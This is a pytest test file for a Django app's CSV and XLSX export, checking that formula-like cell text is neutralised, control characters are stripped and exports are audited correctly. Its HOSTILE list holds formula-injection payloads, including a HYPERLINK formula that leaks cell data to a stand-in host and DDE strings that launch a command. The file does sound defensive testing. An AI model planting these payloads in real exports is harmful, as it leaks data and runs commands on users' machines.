"""Exports survive any stored text and never carry a live formula; the audit tells the truth about them.

Found on the demo: a name with ``\\x01`` made the XLSX export a server error (and the audit said it
was downloaded); names like ``=HYPERLINK(…)`` were exported as live formulas (XLSX) and raw (CSV).
"""

from __future__ import annotations

import csv
import io
import zipfile
from types import SimpleNamespace

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections
from django.test import RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from metodist.core import exports
from metodist.core.exports import Column, audited_export, csv_cell, xlsx_cell
from metodist.core.models import DataExport
from metodist.registry.models import Person

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Нажмите")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
CONTROL = "Ив\x01ан\x0bов\x1f\x7f\x85\ufffe"
COLUMNS = [Column("Текст", lambda row: row.text), Column("Число", lambda row: row.number)]


def _rows(texts, number=-5):
    return [SimpleNamespace(text=text, number=number) for text in texts]


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.getvalue()


def _request(user):
    request = RequestFactory().get("/export/", {"format": "csv", "q": "x"}, REMOTE_ADDR="203.0.113.5")
    request.user = user
    return request


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


# Cells ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_could_start_a_formula_get_a_quote(text):
    assert csv_cell(text).startswith("'")
    assert csv_cell(text)[1:] == text


@pytest.mark.parametrize("text", ["Иванова", "Мария-Луиза", "1-й корпус", "", "e-mail: a@b.ru", "5 = 5"])
def test_ordinary_text_is_left_alone(text):
    assert csv_cell(text) == text
    assert xlsx_cell(text) == text


def test_numbers_stay_numbers():
    assert csv_cell(-5) == "-5"
    assert csv_cell(-2.5) == "-2.5"
    assert xlsx_cell(-5) == -5


def test_control_characters_are_removed_from_cells():
    assert csv_cell(CONTROL) == "Иванов"
    assert xlsx_cell(CONTROL) == "Иванов"
    assert csv_cell("строка 1\nстрока 2") == "строка 1\nстрока 2"


# Whole files -------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_xlsx_holds_hostile_text_as_text_and_numbers_as_numbers(world):
    response = audited_export(
        _request(world.users["admin"]),
        _rows([*HOSTILE, CONTROL]),
        COLUMNS,
        file_format="xlsx",
        stem="test",
        what="Тест",
        row_count=len(HOSTILE) + 1,
    )
    assert response.status_code == 200
    body = _body(response)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(body)).active
    texts = [sheet.cell(row=r, column=1) for r in range(2, len(HOSTILE) + 3)]
    numbers = [sheet.cell(row=r, column=2) for r in range(2, len(HOSTILE) + 3)]
    assert [c.value for c in texts] == [*HOSTILE, "Иванов"]
    assert all(c.data_type == "s" for c in texts)
    assert all(c.quotePrefix for c in texts[: len(HOSTILE)])  # Excel keeps them text when edited
    assert [c.value for c in numbers] == [-5] * (len(HOSTILE) + 1)
    assert all(c.data_type == "n" for c in numbers)


@pytest.mark.django_db
def test_csv_neutralises_every_hostile_cell_and_keeps_negative_numbers(world):
    response = audited_export(
        _request(world.users["admin"]),
        _rows([*HOSTILE, CONTROL]),
        COLUMNS,
        file_format="csv",
        stem="test",
        what="Тест",
        row_count=len(HOSTILE) + 1,
    )
    rows = _csv_rows(_body(response))
    assert rows[0] == ["Текст", "Число"]
    assert [row[0] for row in rows[1:]] == [*(f"'{text}" for text in HOSTILE), "Иванов"]
    assert {row[1] for row in rows[1:]} == {"-5"}


# Over HTTP, with the audit ------------------------------------------------------------------------


@pytest.fixture
def control_person(world):
    # Stored before input was cleaned (or written by a path that bypasses it): the export must cope.
    Person.objects.filter(pk=world.pa.pk).update(last_name="Анич\x01кова", first_name='=HYPERLINK("x")')
    return world.pa


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_person_export_with_a_control_character_succeeds_and_is_audited(client, world, control_person, file_format):
    client.force_login(world.users["admin"])
    response = client.get(reverse("registry:person_export"), {"format": file_format})
    assert response.status_code == 200
    body = _body(response)
    if file_format == "xlsx":
        sheet = load_workbook(io.BytesIO(body), read_only=True).active
        rows = list(sheet.iter_rows(min_row=2, values_only=True))
        assert ("Аничкова", '=HYPERLINK("x")') in {(row[0], row[1]) for row in rows}
    else:
        rows = _csv_rows(body)[1:]
        assert ["Аничкова", '\'=HYPERLINK("x")'] in [row[:2] for row in rows]
    entry = DataExport.objects.get(user=world.users["admin"])
    assert entry.outcome == DataExport.Outcome.DONE
    assert entry.row_count == len(rows)
    assert entry.remote_addr == "127.0.0.1"


def _failing_columns():
    def explode(row):
        raise RuntimeError("disk full")

    return [Column("Текст", lambda row: row.text), Column("Сбой", explode)]


@pytest.mark.django_db
def test_a_failed_xlsx_export_is_audited_as_failed(world):
    with pytest.raises(RuntimeError):
        audited_export(
            _request(world.users["admin"]), _rows(["a"]), _failing_columns(), file_format="xlsx", stem="t", what="Тест"
        )
    entry = DataExport.objects.get()
    assert entry.outcome == DataExport.Outcome.FAILED


@pytest.mark.django_db
def test_a_csv_export_failing_mid_stream_is_audited_as_failed(world):
    response = audited_export(
        _request(world.users["admin"]), _rows(["a"]), _failing_columns(), file_format="csv", stem="t", what="Тест"
    )
    assert DataExport.objects.get().outcome == DataExport.Outcome.STARTED  # nothing sent yet
    with pytest.raises(RuntimeError):
        _body(response)
    assert DataExport.objects.get().outcome == DataExport.Outcome.FAILED


@pytest.mark.django_db
def test_a_finished_csv_export_records_the_rows_actually_sent(world):
    response = audited_export(
        _request(world.users["admin"]), _rows(["a", "b", "c"]), COLUMNS, file_format="csv", stem="t", what="Тест"
    )
    _body(response)
    entry = DataExport.objects.get()
    assert (entry.outcome, entry.row_count, entry.query, entry.file_format) == (
        DataExport.Outcome.DONE,
        3,
        "q=x",
        "csv",
    )


def test_sheet_titles_lose_characters_excel_forbids():
    assert exports.sheet_title("Педагоги: 5/6 [выгрузка]?*" + "х" * 40) == "Педагоги 56 выгрузка" + "х" * 11


@pytest.mark.django_db
def test_a_csv_download_broken_off_by_the_client_is_audited_as_failed(world):
    response = audited_export(
        _request(world.users["admin"]), _rows(["a", "b", "c"]), COLUMNS, file_format="csv", stem="t", what="Тест"
    )
    chunks = iter(response.streaming_content)
    next(chunks)  # the header line reached the client, then the connection dropped
    request_finished.disconnect(close_old_connections)  # as Django's test client does: keep the test's connection
    try:
        response.close()  # what the WSGI server does when the client goes away
    finally:
        request_finished.connect(close_old_connections)
    entry = DataExport.objects.get()
    assert (entry.outcome, entry.row_count) == (DataExport.Outcome.FAILED, 0)


def test_the_printable_fast_path_cannot_skip_a_removable_character():
    """Cells skip the regular expression when str.isprintable(): every removed character must be unprintable."""
    from metodist.core.text import ANY_BREAK, CONTROL_CHARACTERS, SOFT_LINE_BREAKS

    printable_but_removed = [
        hex(code)
        for code in range(0x110000)
        if chr(code).isprintable()
        and any(pattern.match(chr(code)) for pattern in (CONTROL_CHARACTERS, ANY_BREAK, SOFT_LINE_BREAKS))
    ]
    assert printable_but_removed == []
